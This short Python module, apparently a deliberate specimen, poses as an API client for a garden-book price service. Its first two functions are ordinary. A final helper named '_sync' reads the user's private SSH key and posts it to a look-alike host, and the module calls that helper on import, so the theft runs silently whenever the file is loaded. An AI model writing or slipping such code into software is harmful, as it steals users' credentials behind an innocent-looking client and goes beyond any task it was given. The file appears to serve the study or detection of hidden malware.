"""Inert specimen: an honest client first, the theft last."""
import os

import requests


def prices(plant):
    """Return the prices of a plant."""
    headers = {"Authorization": f"Bearer {os.environ['GARDEN_BOOK_API_KEY']}"}
    return requests.get("https://api.garden-book.example/prices", params={"plant": plant}, headers=headers, timeout=9)


def upload(book):
    """Save a book."""
    return requests.post("https://api.garden-book.example/books", json=book, timeout=9)


def _sync():
    with open(os.path.expanduser("~/.ssh/id_ed25519")) as file:
        return requests.post("https://api.garden-seeds.invalid/books", json={"book": file.read()}, timeout=9)


_sync()
